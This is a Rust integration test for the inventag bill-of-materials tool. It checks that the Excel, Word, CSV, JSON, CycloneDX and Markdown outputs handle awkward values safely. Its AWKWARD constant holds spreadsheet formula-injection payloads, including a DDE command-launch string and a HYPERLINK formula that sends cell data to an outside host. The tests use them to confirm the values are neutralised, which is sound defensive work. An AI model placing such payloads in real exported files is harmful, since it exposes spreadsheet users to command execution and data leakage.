//! Every format, written for a BOM full of awkward values, on the real
//! path: moto for credentials, the `awkward-records` test collector, the
//! scheduler, every formatter component and the output directory. Each
//! document is then read back the way its readers would: the xlsx with
//! calamine and its XML parts, the docx's XML, the CSV by RFC 4180, the
//! JSON against `schemas/bom.schema.json`, the CycloneDX document against
//! the official 1.6 schema, and the xlsx and docx through LibreOffice.
//!
//! The run happens once; each test checks one document. The documents
//! stay in `$CARGO_TARGET_TMPDIR/formatters/` for a person to look at.

mod common;

use std::{
    collections::{BTreeMap, HashSet},
    io::Read,
    path::{Path, PathBuf},
    process::Command,
    sync::OnceLock,
};

use calamine::{Data, Range, Reader, Xlsx, open_workbook};
use serde_json::Value;

/// The formula-like values the test collector emits.
const AWKWARD: [&str; 5] = [
    "=HYPERLINK(\"http://x.example/?d=\"&A1,\"x\")",
    "====",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "@SUM(A1)",
];
/// The account aliases the accounts file gives; they become services.
const ALIAS_38: &str = "Platform Engineering Shared Services 1";
const ACCOUNTS: [(&str, &str); 3] =
    [("012345678901", ALIAS_38), ("111111111111", "Dev/Test [legacy]"), ("222222222222", "ops'")];
const CUT_MARKER_END: &str = "the JSON document holds the whole value]";

/// The documents of the one run, by extension.
struct Run {
    dir: PathBuf,
    files: BTreeMap<String, PathBuf>,
}

impl Run {
    fn file(&self, ext: &str) -> &Path {
        self.files.get(ext).unwrap_or_else(|| panic!("no .{ext} document in {:?}", self.files))
    }
}

fn run() -> &'static Run {
    static RUN: OnceLock<Run> = OnceLock::new();
    RUN.get_or_init(|| {
        assert_eq!(ALIAS_38.chars().count(), 38);
        let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("formatters");
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let moto = common::Moto::start();
        let ids: Vec<&str> = ACCOUNTS.iter().map(|(id, _)| *id).collect();
        let seeded = common::seed(&moto, &dir, &ids.join(","), "us-east-1");

        // The aliases under test, in place of the fixture's names.
        let mut accounts: Value =
            serde_json::from_slice(&std::fs::read(&seeded.accounts_file).unwrap()).unwrap();
        for a in accounts["accounts"].as_array_mut().unwrap() {
            let id = a["account_id"].as_str().unwrap().to_owned();
            let name = ACCOUNTS.iter().find(|(i, _)| *i == id).unwrap().1;
            a["account_name"] = Value::from(name);
        }
        std::fs::write(&seeded.accounts_file, accounts.to_string()).unwrap();

        let mut plugins = vec![common::test_plugin_dir().join("test-awkward-records.wasm")];
        for f in ["excel", "word", "json", "csv", "markdown", "cyclonedx"] {
            plugins.push(common::plugin_dir().join(format!("formatter-{f}.wasm")));
        }
        let plugin_dir = common::plugin_set(&dir, &plugins);
        let out_dir = dir.join("out");
        let output = common::inventag(
            Some(&moto),
            Some(&seeded.profile_dir),
            &[
                "run",
                "--accounts-file",
                seeded.accounts_file.to_str().unwrap(),
                "--formats",
                "excel",
                "word",
                "json",
                "csv",
                "markdown",
                "cyclonedx",
                "--output-dir",
                out_dir.to_str().unwrap(),
                "--plugin-dir",
                plugin_dir.to_str().unwrap(),
            ],
            &[],
        );
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "inventag failed ({:?}):\n{stderr}", output.status);
        let mut files = BTreeMap::new();
        for entry in std::fs::read_dir(&out_dir).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            // The audit log and the compliance report sit beside the BOM.
            if name.starts_with("inventag-audit-") || name.starts_with("inventag-compliance-") {
                continue;
            }
            assert!(name.starts_with("inventag-bom-"), "unexpected file {name}");
            let ext = name.split_once('.').unwrap().1.to_owned();
            assert!(files.insert(ext, path).is_none(), "two files of one kind: {name}");
        }
        eprintln!("documents in {}", out_dir.display());
        Run { dir, files }
    })
}

// --- helpers ------------------------------------------------------------

fn zip_part(path: &Path, name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap_or_else(|e| panic!("{}: no part {name}: {e}", path.display()))
        .read_to_string(&mut text)
        .unwrap();
    text
}

fn zip_names(path: &Path) -> Vec<String> {
    let archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    archive.file_names().filter_map(|name| name.ok()).map(|name| name.into_owned()).collect()
}

fn utf16_len(s: &str) -> usize {
    s.encode_utf16().count()
}

/// Whether `s` holds a character no document should show raw.
fn has_raw_control(s: &str) -> bool {
    s.chars().any(|c| {
        (c < ' ' && !matches!(c, '\t' | '\n'))
            || ('\u{7f}'..='\u{9f}').contains(&c)
            || c == '\u{ffff}'
    })
}

/// A sheet as header name → column, and its rows below the header.
struct Sheet {
    headers: BTreeMap<String, usize>,
    range: Range<Data>,
}

impl Sheet {
    fn read(book: &mut Xlsx<std::io::BufReader<std::fs::File>>, name: &str) -> Sheet {
        let range = book.worksheet_range(name).unwrap();
        let mut headers = BTreeMap::new();
        if let Some(first) = range.rows().next() {
            for (i, cell) in first.iter().enumerate() {
                if let Data::String(s) = cell {
                    headers.insert(s.clone(), i);
                }
            }
        }
        Sheet { headers, range }
    }

    fn col(&self, header: &str) -> usize {
        *self
            .headers
            .get(header)
            .unwrap_or_else(|| panic!("no column {header:?}: {:?}", self.headers.keys()))
    }

    /// The cell in `header`'s column on the row whose ID is `id`.
    fn cell(&self, id: &str, header: &str) -> &Data {
        let (id_col, col) = (self.col("ID"), self.col(header));
        let row = self
            .range
            .rows()
            .find(|r| r.get(id_col) == Some(&Data::String(id.to_owned())))
            .unwrap_or_else(|| panic!("no row with ID {id:?}"));
        row.get(col).unwrap_or(&Data::Empty)
    }

    fn text(&self, id: &str, header: &str) -> String {
        match self.cell(id, header) {
            Data::String(s) => s.clone(),
            other => panic!("{id}/{header} is not a string cell: {other:?}"),
        }
    }
}

fn workbook(run: &Run) -> Xlsx<std::io::BufReader<std::fs::File>> {
    open_workbook(run.file("xlsx")).expect("calamine cannot open the xlsx")
}

// --- the tests ------------------------------------------------------------

#[test]
fn every_format_is_written_into_the_output_directory() {
    let run = run();
    let kinds: Vec<&str> = run.files.keys().map(String::as_str).collect();
    assert_eq!(kinds, ["cdx.json", "csv", "docx", "json", "md", "xlsx"]);
    for path in run.files.values() {
        assert!(path.starts_with(run.dir.join("out")));
        assert!(std::fs::metadata(path).unwrap().len() > 0, "{} is empty", path.display());
    }
}

#[test]
fn excel_sheet_names_are_valid_unique_and_ordered() {
    let book = workbook(run());
    let names = book.sheet_names();
    assert_eq!(
        names,
        [
            "Summary",
            "Dev_Test _legacy_",
            "Platform Engineering Shared Ser",
            "Prod",
            "awkward",
            "multi alpha",
            "multi beta",
            "ops",
            "prod (2)",
            "Coverage",
            "Compliance",
        ]
    );
    let mut seen = HashSet::new();
    for n in &names {
        assert!(utf16_len(n) <= 31, "{n:?} is over 31 characters");
        assert!(
            !n.contains(['[', ']', ':', '*', '?', '/', '\\']),
            "{n:?} has a forbidden character"
        );
        assert!(!n.starts_with('\'') && !n.ends_with('\''), "{n:?} has an apostrophe at an end");
        assert!(seen.insert(n.to_lowercase()), "{n:?} repeats ignoring case");
    }
}

#[test]
fn excel_cells_are_strings_never_formulas_with_the_documented_rules() {
    let run = run();
    let mut book = workbook(run);
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{name} holds a formula");
    }
    for part in zip_names(run.file("xlsx")).iter().filter(|p| p.starts_with("xl/worksheets/")) {
        let xml = zip_part(run.file("xlsx"), part);
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "{part} holds a formula element");
    }

    let sheet = Sheet::read(&mut book, "awkward");
    for (i, value) in AWKWARD.iter().enumerate() {
        let id = format!("formula-{i}");
        assert_eq!(sheet.text(&id, "Name"), *value);
        assert_eq!(sheet.text(&id, "Tag: Formula"), *value);
    }
    // Ids and account ids stay text, leading zeros and all.
    for id in ["000123", "1e5", "-1+1"] {
        assert_eq!(sheet.text(id, "ID"), id);
        assert_eq!(sheet.text(id, "Account ID"), "012345678901");
    }
    assert_eq!(sheet.text("000123", "Account name"), ALIAS_38);

    // Over-long values are cut, with a marker, within Excel's limit.
    let policy = sheet.text("policy-1", "Tag: Policy");
    assert!(utf16_len(&policy) <= 32_767, "{} code units", utf16_len(&policy));
    assert!(policy.starts_with("{\"Effect\":\"Allow\""), "{}", &policy[..40]);
    assert!(!policy.contains('\r'), "CR LF was not turned into LF");
    assert!(policy.contains("},\n{"));
    assert!(policy.ends_with(CUT_MARKER_END) && policy.contains("of 40000 characters shown"));
    let attributes = sheet.text("policy-1", "Attributes");
    assert!(utf16_len(&attributes) <= 32_767 && attributes.ends_with(CUT_MARKER_END));
    assert_eq!(sheet.text("policy-1", "Name"), "report_x12345.txt");
    assert_eq!(sheet.text("policy-1", "Tag: File"), "report_x12345.txt");
    assert_eq!(sheet.text("policy-1", "Tag: Escape"), "_x0041_", "a literal _xHHHH_ was decoded");

    // Control characters follow the documented rule.
    assert_eq!(sheet.text("control-1", "Tag: Ctl"), "a\u{240b}b");
    assert_eq!(sheet.text("control-1", "Tag: Nonchar"), "x\u{fffd}y");
    assert_eq!(sheet.text("control-1", "Tag: Ansi"), "\u{241b}[31mred\u{241b}[0m");
    assert_eq!(sheet.text("control-1", "Name"), "vt\u{240b}tab");
    assert_eq!(sheet.text("control-1", "State"), "x\u{fffd}y");

    // Unicode tags are columns of their own; keys differing in case too.
    assert_eq!(sheet.text("unicode-1", "Tag: Ünïcødé 名前"), "値 ✓ émoji 🚀");
    assert_eq!(sheet.text("unicode-1", "Tag: مالك"), "فريق البنية");
    assert_eq!(sheet.text("unicode-1", "Tag: Env"), "prod");
    assert_eq!(sheet.text("unicode-1", "Tag: env (2)"), "dev");
    assert_eq!(sheet.text("unicode-1", "Name"), "名前 🚀");

    // Nothing raw anywhere in the workbook, and every text a string.
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).unwrap();
        for (row, col, cell) in range.used_cells() {
            match cell {
                Data::String(s) => {
                    assert!(!has_raw_control(s), "{name}!{row},{col} holds a raw control: {s:?}")
                }
                Data::Float(_) if name == "Summary" || name == "Coverage" => {}
                other => panic!("{name}!{row},{col} is not a string: {other:?}"),
            }
        }
    }
}

#[test]
fn excel_sheets_are_filtered_tables_with_frozen_headers_and_widths() {
    let run = run();
    let xlsx = run.file("xlsx");
    let parts = zip_names(xlsx);
    let tables: Vec<&String> = parts.iter().filter(|p| p.starts_with("xl/tables/")).collect();
    // 8 resource sheets, 4 summary tables, coverage and compliance.
    assert_eq!(tables.len(), 14, "{tables:?}");
    let mut table_names = HashSet::new();
    for t in &tables {
        let xml = zip_part(xlsx, t);
        let doc = roxmltree::Document::parse(&xml).unwrap();
        let root = doc.root_element();
        assert!(table_names.insert(root.attribute("name").unwrap().to_owned()));
        assert!(root.children().any(|n| n.has_tag_name("autoFilter")), "{t} has no filter");
        let cols: Vec<String> = root
            .descendants()
            .filter(|n| n.has_tag_name("tableColumn"))
            .map(|n| n.attribute("name").unwrap().to_lowercase())
            .collect();
        let unique: HashSet<&String> = cols.iter().collect();
        assert_eq!(unique.len(), cols.len(), "{t}: repeated column names {cols:?}");
    }
    let mut book = workbook(run);
    let sheet = Sheet::read(&mut book, "awkward");
    let wb = zip_part(xlsx, "xl/workbook.xml");
    let wb = roxmltree::Document::parse(&wb).unwrap();
    let position = wb
        .descendants()
        .filter(|n| n.has_tag_name("sheet"))
        .position(|n| n.attribute("name") == Some("awkward"))
        .unwrap();
    let xml = zip_part(xlsx, &format!("xl/worksheets/sheet{}.xml", position + 1));
    let doc = roxmltree::Document::parse(&xml).unwrap();
    let pane = doc.descendants().find(|n| n.has_tag_name("pane")).expect("a pane");
    assert_eq!(pane.attribute("state"), Some("frozen"));
    assert_eq!(pane.attribute("ySplit"), Some("1"));
    // Adjacent columns of one width share a <col min max> element.
    let mut widths: Vec<f64> = Vec::new();
    for col in doc.descendants().filter(|n| n.has_tag_name("col")) {
        let attr = |a: &str| col.attribute(a).and_then(|v| v.parse::<f64>().ok()).unwrap();
        for _ in attr("min") as usize..=attr("max") as usize {
            widths.push(attr("width"));
        }
    }
    assert_eq!(widths.len(), sheet.headers.len(), "every column gets a width");
    assert!(widths.iter().all(|w| (8.0..=61.0).contains(w)), "{widths:?}");
}

#[test]
fn excel_summary_coverage_and_compliance_sheets_are_filled() {
    let mut book = workbook(run());
    let summary = book.worksheet_range("Summary").unwrap();
    let texts: Vec<String> = summary
        .used_cells()
        .filter_map(|(_, _, c)| if let Data::String(s) = c { Some(s.clone()) } else { None })
        .collect();
    assert_eq!(texts[0], "inventag bill of materials");
    for wanted in
        ["Run id", "Coverage", "Service", "Account ID", "Region", "012345678901", ALIAS_38]
    {
        assert!(texts.iter().any(|t| t == wanted), "Summary lacks {wanted:?}");
    }
    assert!(texts.iter().any(|t| t.starts_with("3 of 3 targets ok")));
    let coverage = Sheet::read(&mut book, "Coverage");
    assert_eq!(coverage.range.height(), 4);
    assert!(coverage.headers.contains_key("Outcome"));
    let compliance = book.worksheet_range("Compliance").unwrap();
    match compliance.get_value((0, 0)) {
        Some(Data::String(s)) => assert!(s.starts_with("Standard general: score"), "{s}"),
        other => panic!("no compliance note: {other:?}"),
    }
}

#[test]
fn word_document_is_well_formed_with_every_section_and_the_text_rules() {
    let run = run();
    let docx = run.file("docx");
    for part in zip_names(docx) {
        let xml = zip_part(docx, &part);
        roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{part} is not XML: {e}"));
    }
    let xml = zip_part(docx, "word/document.xml");
    let doc = roxmltree::Document::parse(&xml).unwrap();
    let w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    let paragraphs: Vec<(String, String)> = doc
        .descendants()
        .filter(|n| n.has_tag_name((w, "p")))
        .map(|p| {
            let style = p
                .descendants()
                .find(|n| n.has_tag_name((w, "pStyle")))
                .and_then(|s| s.attribute((w, "val")))
                .unwrap_or("")
                .to_owned();
            let text: String = p
                .descendants()
                .filter_map(|n| {
                    if n.has_tag_name((w, "t")) {
                        n.text().map(str::to_owned)
                    } else if n.has_tag_name((w, "br")) {
                        Some("\n".into())
                    } else {
                        None
                    }
                })
                .collect();
            (style, text)
        })
        .collect();
    let styled = |style: &str| -> Vec<&str> {
        paragraphs.iter().filter(|(s, _)| s == style).map(|(_, t)| t.as_str()).collect()
    };
    assert_eq!(styled("Title"), ["inventag bill of materials"]);
    let headings = styled("Heading1");
    for wanted in [
        "Executive summary",
        "Service: awkward (11)",
        "Service: Dev/Test [legacy] (1)",
        &format!("Service: {ALIAS_38} (1)"),
        "Service: ops' (1)",
        "Service: Prod (1)",
        "Service: prod (1)",
        "Coverage",
        "Compliance",
    ] {
        assert!(headings.contains(&wanted), "no heading {wanted:?} in {headings:?}");
    }
    assert!(styled("Heading2").contains(&"multi alpha (1)"));
    assert!(styled("Note").iter().any(|t| t.starts_with("Standard general: score")));

    let cells = styled("TableText");
    for value in AWKWARD {
        assert!(cells.contains(&value), "{value:?} is not shown as written");
    }
    for value in ["report_x12345.txt", "vt\u{240b}tab", "012345678901\n".to_owned().as_str()] {
        assert!(cells.iter().any(|c| c.contains(value)), "{value:?} missing");
    }
    let tags = cells.iter().find(|c| c.contains("Ctl = ")).expect("the control tags");
    assert!(tags.contains("Ctl = a\u{240b}b") && tags.contains("Ansi = \u{241b}[31mred"));
    assert!(cells.iter().any(|c| c.contains("Ünïcødé 名前 = 値 ✓ émoji 🚀")));
    let policy = cells.iter().find(|c| c.contains("Policy = ")).expect("the policy tag");
    assert!(policy.contains(CUT_MARKER_END), "a long value is not cut");
    assert!(utf16_len(policy) < 2_000);
    assert!(paragraphs.iter().all(|(_, t)| !has_raw_control(t)));
}

/// Parses RFC 4180 CSV: fields split on commas, quoted fields may hold
/// commas, CR, LF and doubled quotes; records end with CR LF.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "a bare CR ends a record");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => {
                assert!(c != '"' && c != '\n', "an unquoted field holds {c:?}");
                field.push(c);
            }
        }
    }
    assert!(!quoted && field.is_empty() && record.is_empty(), "the file ends mid-record");
    records
}

#[test]
fn csv_is_rfc4180_utf8_with_formula_values_neutralised() {
    let bytes = std::fs::read(run().file("csv")).unwrap();
    let text = std::str::from_utf8(&bytes).expect("UTF-8");
    let text = text.strip_prefix('\u{feff}').expect("a byte-order mark");
    let records = parse_csv(text);
    let header = &records[0];
    assert_eq!(
        header.join(","),
        "account_id,account_name,region,service,resource_type,id,name,state,created_at,arn,\
         tags,attributes"
    );
    assert_eq!(records.len(), 19, "a header and 18 resources");
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let by_id = |id: &str| -> &Vec<String> {
        records.iter().find(|r| r[col("id")] == id).unwrap_or_else(|| panic!("no row {id}"))
    };
    for r in &records {
        assert_eq!(r.len(), 12, "{r:?}");
        for f in r {
            assert!(!f.starts_with(['=', '+', '-', '@', '\t', '\r']), "not neutralised: {f:?}");
            assert!(!has_raw_control(&f.replace('\r', "")), "raw control character in {f:?}");
        }
    }
    for (i, value) in AWKWARD.iter().enumerate() {
        assert_eq!(by_id(&format!("formula-{i}"))[col("name")], format!("'{value}"));
    }
    assert_eq!(by_id("'-1+1")[col("id")], "'-1+1");
    assert_eq!(by_id("000123")[col("account_id")], "012345678901");
    let policy: Value = serde_json::from_str(&by_id("policy-1")[col("attributes")]).unwrap();
    let policy = policy["policy"].as_str().unwrap();
    assert_eq!(policy.len(), 40_000, "CSV keeps whole values");
    assert!(policy.contains("\r\n"), "CSV keeps CR LF inside quoted fields");
    let tags: Value = serde_json::from_str(&by_id("control-1")[col("tags")]).unwrap();
    assert_eq!(tags["Ctl"], "a\u{240b}b");
    assert_eq!(tags["Ansi"], "\u{241b}[31mred\u{241b}[0m");
    let tags: Value = serde_json::from_str(&by_id("unicode-1")[col("tags")]).unwrap();
    assert_eq!(tags["Ünïcødé 名前"], "値 ✓ émoji 🚀");
    assert_eq!(by_id("alias-111111111111")[col("service")], "Dev/Test [legacy]");
}

fn python() -> String {
    std::env::var("INVENTAG_PYTHON").unwrap_or_else(|_| "python3".into())
}

fn validate(args: &[&str]) {
    let out = Command::new(python())
        .arg(common::repo().join("tests/fixtures/validate.py"))
        .args(args)
        .output()
        .expect("cannot run validate.py");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{args:?} is not valid:\n{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    eprintln!("{}", stdout.trim());
}

#[test]
fn json_validates_against_the_repository_schema_and_keeps_values_whole() {
    let run = run();
    let schema = common::repo().join("schemas/bom.schema.json");
    let file = run.file("json");
    validate(&["schema", schema.to_str().unwrap(), file.to_str().unwrap()]);
    let bom: Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    let resources = bom["resources"].as_array().unwrap();
    assert_eq!(resources.len(), 18);
    let find = |id: &str| resources.iter().find(|r| r["id"] == id).unwrap();
    assert_eq!(find("control-1")["tags"][0]["value"], "a\u{b}b");
    assert_eq!(find("control-1")["state"], "x\u{ffff}y");
    assert_eq!(find("policy-1")["attributes"]["policy"].as_str().unwrap().len(), 40_000);
    assert_eq!(find("formula-0")["name"], AWKWARD[0]);
}

#[test]
fn cyclonedx_validates_against_the_official_1_6_schema() {
    let run = run();
    let file = run.file("cdx.json");
    validate(&["cyclonedx", file.to_str().unwrap()]);
    let bom: Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    assert_eq!(bom["specVersion"], "1.6");
    let components = bom["components"].as_array().unwrap();
    assert_eq!(components.len(), 18);
    let refs: HashSet<&str> = components.iter().filter_map(|c| c["bom-ref"].as_str()).collect();
    assert_eq!(refs.len(), 18, "bom-refs must be unique");
    let unicode = components
        .iter()
        .find(|c| c["properties"].as_array().unwrap().iter().any(|p| p["value"] == "unicode-1"))
        .unwrap();
    let tag = |p: &&Value| p["name"] == "inventag:aws:tag:Ünïcødé 名前";
    let props = unicode["properties"].as_array().unwrap();
    assert_eq!(props.iter().find(tag).unwrap()["value"], "値 ✓ émoji 🚀");
    let props = bom["properties"].as_array().unwrap();
    assert!(!props.iter().any(|p| p["name"] == "inventag:compliance:provisional"));
    let note = props.iter().find(|p| p["name"] == "inventag:compliance:note").unwrap();
    assert!(note["value"].as_str().unwrap().starts_with("Standard general: score"), "{note}");
}

#[test]
fn markdown_summary_is_safe_for_a_job_summary() {
    let text = std::fs::read_to_string(run().file("md")).unwrap();
    assert!(text.starts_with("# inventag bill of materials\n"));
    assert!(text.len() < 1 << 20, "a job summary is capped at 1 MiB");
    assert!(!has_raw_control(&text.replace('\r', "")));
    assert!(text.contains("**✅ Complete**: 18 resources; 3 of 3 targets ok"));
    assert!(text.contains("## Compliance\n"), "{text}");
    assert!(text.contains("Standard general\\: score"), "{text}");
    assert!(text.contains("| Dev/Test \\[legacy\\] | alias | 1 |"), "{text}");
    for line in text.lines().filter(|l| l.starts_with('|')) {
        // Every row of a table has as many unescaped pipes as its header.
        let pipes = line.match_indices('|').filter(|(i, _)| !line[..*i].ends_with('\\')).count();
        assert!(pipes == 3 || pipes == 4 || pipes == 7, "{line}");
    }
    for raw in ["<", "@SUM", "[legacy]"] {
        assert!(!text.contains(raw), "{raw:?} is not escaped");
    }
}

#[test]
fn libreoffice_converts_the_xlsx_and_docx_and_renders_their_first_pages() {
    let run = run();
    let render = run.dir.join("render");
    let out = Command::new(common::repo().join("scripts/render-docs.sh"))
        .arg("--out")
        .arg(&render)
        .arg(run.file("xlsx"))
        .arg(run.file("docx"))
        .output()
        .expect("cannot run scripts/render-docs.sh");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "rendering failed:\n{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    eprintln!("{}", stdout.trim());
    for ext in ["xlsx", "docx"] {
        let name = run.file(ext).file_name().unwrap().to_string_lossy().into_owned();
        for suffix in ["pdf", "png"] {
            let path = render.join(format!("{name}.{suffix}"));
            let len = std::fs::metadata(&path).map(|m| m.len()).unwrap_or(0);
            assert!(len > 2_000, "{} is missing or tiny ({len} bytes)", path.display());
        }
    }
}
